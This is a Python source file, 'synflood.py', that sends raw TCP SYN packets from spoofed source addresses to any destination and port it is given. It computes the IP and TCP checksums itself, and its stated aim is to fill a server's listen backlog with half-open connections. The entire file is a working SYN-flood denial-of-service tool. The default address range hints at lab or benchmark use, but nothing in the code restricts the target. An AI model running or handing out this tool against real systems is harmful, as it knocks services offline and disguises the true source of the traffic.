#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Send N SYNs from made-up addresses that never answer (half-open
connections for a listen backlog), as raw IPv4 packets.

    synflood.py DST DPORT N [--net 198.18.0]
"""
import socket
import struct
import sys


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
                      65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + \
        struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6,
                     0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main(argv):
    if len(argv) not in (4, 6):
        print(__doc__, file=sys.stderr)
        return 2
    dst, dport, n = argv[1], int(argv[2]), int(argv[3])
    net = argv[5] if len(argv) == 6 else "198.18.0"
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(n):
        src = "%s.%d" % (net, 100 + i % 100)
        s.sendto(syn(src, dst, 20000 + i, dport, i * 7919 + 1), (dst, 0))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
